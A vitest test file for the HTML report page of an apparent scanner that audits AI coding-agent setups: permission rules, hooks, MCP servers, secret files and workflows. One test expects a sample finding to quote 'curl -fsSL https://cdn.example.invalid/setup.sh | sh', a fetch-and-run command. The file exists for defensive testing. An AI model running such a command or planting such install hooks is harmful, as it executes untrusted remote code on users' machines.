import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import type { Report } from "../../../src/model/report.ts";
import { renderHtml } from "../../../src/render/html.ts";
import { poison } from "../hostile.ts";
import { sampleDelta } from "../sample-delta.ts";
import { at, SAMPLES, sampleReport } from "../sample-report.ts";
import { attribute, type Element, parsePage, textOf } from "./page.ts";

const EXCERPTS = { excerpts: true };
const hold = sampleReport("hold");
const cases: [string, Report][] = [...SAMPLES.map((report): [string, Report] => [report.posture.name, report]), ["a delta", sampleDelta()]];
const size = (text: string): number => Buffer.byteLength(text);
const calm = (text: string): string => text.replace(/\s+/gu, " ").trim();

describe.each(cases)("the page of %s", (_, report) => {
  const text = renderHtml(report, EXCERPTS);
  const { errors, elements } = parsePage(text);
  const all = (...names: string[]): Element[] => elements.filter(({ tagName }) => names.includes(tagName));

  it("is what a parser takes without putting anything right", () => {
    expect(errors).toEqual([]);
    expect(attribute(all("html")[0] as Element, "lang")).toBe("en");
    expect(text.startsWith("<!doctype html>\n")).toBe(true);
  });

  it("runs nothing, fetches nothing, and says so to the browser", () => {
    expect(all("script", "iframe", "object", "embed", "link", "img", "form", "base", "audio", "video")).toEqual([]);
    expect(elements.flatMap(({ attrs }) => attrs.map(({ name }) => name)).filter((name) => /^on|^style$|^src/u.test(name))).toEqual([]);
    const [style, ...others] = all("style");
    expect(others).toEqual([]);
    const css = style ? textOf(style) : "";
    expect(css).not.toMatch(/url\(|@import|https?:/u);
    const policy = all("meta").find((meta) => attribute(meta, "http-equiv") === "Content-Security-Policy");
    expect(policy && attribute(policy, "content")).toBe(
      `default-src 'none'; style-src 'sha256-${createHash("sha256").update(css).digest("base64")}'; base-uri 'none'; form-action 'none'`,
    );
  });

  it("leads only to places in itself", () => {
    const ids = elements.flatMap((element) => attribute(element, "id") ?? []);
    expect(new Set(ids).size).toBe(ids.length);
    const targets = all("a").map((link) => attribute(link, "href") ?? "");
    expect(targets.length).toBeGreaterThan(10);
    expect(targets.filter((target) => !ids.includes(target.slice(1)) || !target.startsWith("#"))).toEqual([]);
    const labels = elements.flatMap((element) => attribute(element, "aria-labelledby")?.split(" ") ?? []);
    expect(labels.filter((id) => !ids.includes(id))).toEqual([]);
  });

  it("has landmarks, and headings in order", () => {
    expect(all("main")).toHaveLength(1);
    expect(all("nav").map((nav) => attribute(nav, "aria-label"))).toEqual(["Contents"]);
    const levels = all("h1", "h2", "h3", "h4", "h5", "h6").map(({ tagName }) => Number(tagName[1]));
    expect(levels[0]).toBe(1);
    expect(levels.filter((level) => level === 1)).toHaveLength(1);
    expect(levels.filter((level, i) => level > (levels[i - 1] ?? 0) + 1)).toEqual([]);
  });

  it("names the columns, the rows and the subject of every table", () => {
    expect(all("th").filter((cell) => !/^(?:col|row|rowgroup)$/u.test(attribute(cell, "scope") ?? ""))).toEqual([]);
    expect(
      all("table").filter((table) => !elements.some(({ tagName, parentNode }) => tagName === "caption" && parentNode === table)),
    ).toEqual([]);
    for (const svg of all("svg")) expect(attribute(svg, "aria-labelledby")).toMatch(/^(graph-\d+)-title \1-desc$/u);
  });

  it("is the same bytes every time", () => {
    expect(renderHtml(structuredClone(report), EXCERPTS)).toBe(text);
  });
});

describe("the story", () => {
  const headings = (report: Report): string[] =>
    parsePage(renderHtml(report, EXCERPTS))
      .elements.filter(({ tagName }) => tagName === "h1" || tagName === "h2")
      .map((element) => calm(textOf(element)));

  it("is told in the order in which a reviewer asks", () => {
    expect(headings(hold)).toEqual([
      "Recommended posture Hold",
      "What holds it there",
      "To get to read-only",
      "The ten questions",
      "Rows by agent",
      "Findings, by what to do",
      "What runs by itself",
      "What each agent would do",
      "Rules as they are written",
      "MCP servers",
      "Agents and their instructions",
      "Secret files",
      "Requirements",
      "What is recommended here",
      "Commands by name",
      "Workflows",
      "Production gates",
      "Before automatic permissions",
      "Files that speak to scanners",
      "Suppressed",
      "Coverage",
      "How to start each agent",
    ]);
    expect(headings(sampleDelta())[3]).toBe("What the change does to trust");
  });

  it("says that a scan is incomplete above everything but the posture", () => {
    const text = renderHtml(hold, EXCERPTS);
    expect(text.indexOf("Incomplete: this is not a clean scan.")).toBeLessThan(text.indexOf('<dl class="figures">'));
    expect(renderHtml(sampleReport("read-only"), EXCERPTS)).not.toContain("ncomplete");
    expect(calm(words({ ...hold, findings: [] }))).toContain("None in what could be read.");
  });

  it("tells all three parts of a finding, and its places", () => {
    const said = calm(words(hold));
    for (const { message, why, fix, locations } of hold.findings) {
      for (const part of [message, why, fix]) expect(said).toContain(part);
      for (const { path, line, excerpt = "" } of locations) for (const part of [`${path}:${line}`, excerpt]) expect(said).toContain(part);
    }
  });

  it("lists rules, workflows and files for scanners as the JSON report has them, what opens something first", () => {
    const said = calm(words(hold));
    const { permissionRules, workflows, policyFiles } = hold.inventory;
    for (const list of [permissionRules, workflows, policyFiles]) expect(list.length).toBeGreaterThan(0);
    for (const { text, path, line } of permissionRules) for (const part of [text, `${path}:${line}`]) expect(said).toContain(part);
    const [allowed, denied] = (["allow", "deny"] as const).map((effect) =>
      said.lastIndexOf(permissionRules.find((rule) => rule.effect === effect)?.text ?? "nothing"),
    );
    expect(allowed).toBeLessThan(denied ?? 0);
    for (const { path, events, writes } of workflows)
      for (const part of [path, ...events, ...writes.map((scope) => (scope === "*" ? "everything" : scope))]) expect(said).toContain(part);
    expect(said).toContain("a setting of the repository decides");
    for (const { path, tool } of policyFiles) for (const part of [path, tool]) expect(said).toContain(part);
    const plain = { ...hold, inventory: { ...hold.inventory, permissionRules: [], workflows: [], policyFiles: [] } };
    for (const title of ["Rules as they are written", "Workflows", "Files that speak to scanners"])
      expect(headings(plain).join("\n")).not.toContain(title);
  });

  it("says in words what the colours say", () => {
    const { elements } = parsePage(renderHtml(hold, EXCERPTS));
    const chips = elements.filter((element) => attribute(element, "class")?.startsWith("chip"));
    expect(chips.length).toBeGreaterThan(50);
    expect(chips.map(textOf).filter((words) => !/[a-z]/u.test(words))).toEqual([]);
  });

  it("marks what was hidden, and only that", () => {
    const text = renderHtml(
      {
        ...hold,
        findings: hold.findings.map((finding) => ({
          ...finding,
          locations: [at("CLAUDE\u200b.md", 1, "a\u202eb\n"), at("plain.md", 1, "spells \\u{202e} itself")] as const,
        })),
      },
      EXCERPTS,
    );
    const marks = parsePage(text)
      .elements.filter(({ tagName }) => tagName === "mark")
      .map(textOf);
    expect(new Set(marks)).toEqual(new Set(["\\u{…}", "\\u{200b}", "\\u{202e}"]));
  });

  it("quotes only where quoting is allowed", () => {
    expect(words(hold)).toContain('curl -fsSL https://cdn.example.invalid/setup.sh | sh"');
    expect(renderHtml(hold, { excerpts: false })).not.toMatch(/<pre|STRIPE|postinstall&quot;/u);
  });

  it("links a ceiling to the finding and the row that set it", () => {
    const { elements } = parsePage(renderHtml(hold, EXCERPTS));
    const targets = elements.filter((element) => attribute(element, "class") === "see").map((link) => attribute(link, "href"));
    expect(targets).toContain("#rule-install-script-downloads-and-runs");
    expect(targets).toContain("#answers");
  });

  it("tells what a change does, before and after", () => {
    const said = calm(words(sampleDelta()));
    expect(said).toContain("This change lowers trust. Adds a SessionStart hook, widens");
    expect(said).toContain("1 new finding, 1 worse, 5 unchanged, 1 fixed.");
    expect(said).toContain("adds a SessionStart hook that runs node tools/sync.js");
    expect(said).toContain("deploy/key.pem held a private key.");
    expect(words(hold)).not.toContain("trust.");
  });
});

describe("the size of the page", () => {
  const many = (n: number): Report => ({
    ...hold,
    findings: Array.from({ length: n }, (_, i) => ({
      ...(hold.findings[0] as Report["findings"][number]),
      rule: `rule-${i % 300}`,
      fingerprint: `f${i}`,
      message: `Message ${i} end.`,
      locations: [at("漢".repeat(180), i, "漢".repeat(180))] as const,
    })),
  });

  it("is cut between two findings, and every one is accounted for", () => {
    const n = 6000;
    const text = renderHtml(many(n), EXCERPTS, 1_500_000);
    expect(size(text)).toBeLessThanOrEqual(1_500_000);
    expect(size(text)).toBeGreaterThan(1_100_000);
    const shown = text.match(/Message \d+ end/gu)?.length ?? 0;
    const left = Number(/([\d,]+) more findings not shown/u.exec(text)?.[1]?.replaceAll(",", ""));
    expect(shown + left).toBe(n);
    expect(parsePage(text).errors).toEqual([]);
  });

  it("shows a thousand findings whole", () => {
    const text = renderHtml(many(1000), EXCERPTS);
    expect(text.match(/Message \d+ end/gu)).toHaveLength(1000);
    expect(text).not.toContain("not shown");
  });

  it("stays below five megabytes when every list is as long and every field as costly as it can be", () => {
    const grow = (value: unknown): unknown => {
      if (Array.isArray(value)) return value.length === 0 ? value : Array.from({ length: 600 }, (_, i) => value[i % value.length]);
      return value;
    };
    const { inventory, subject } = hold;
    const grown = Object.fromEntries(Object.entries(inventory).map(([key, value]) => [key, grow(value)])) as unknown as Report["inventory"];
    const report: Report = {
      ...hold,
      posture: { ...hold.posture, ceilings: grow(hold.posture.ceilings) as never, nextSteps: grow(hold.posture.nextSteps) as never },
      subject: { ...subject, coverage: { ...subject.coverage, gaps: grow(subject.coverage.gaps) as never } },
      permissions: grow(hold.permissions) as never,
      suppressed: grow(hold.suppressed) as never,
      findings: grow(hold.findings) as never,
      inventory: grown,
    };
    for (const text of ["/".repeat(1000), "\u{10ffff}".repeat(1000)]) {
      const page = renderHtml(poison(report, text), EXCERPTS);
      expect(size(page)).toBeLessThan(5_000_000);
      expect(page).toContain("not shown for want of room");
    }
  });
});

function words(report: Report): string {
  return textOf(parsePage(renderHtml(report, EXCERPTS)).elements[0] as Element);
}
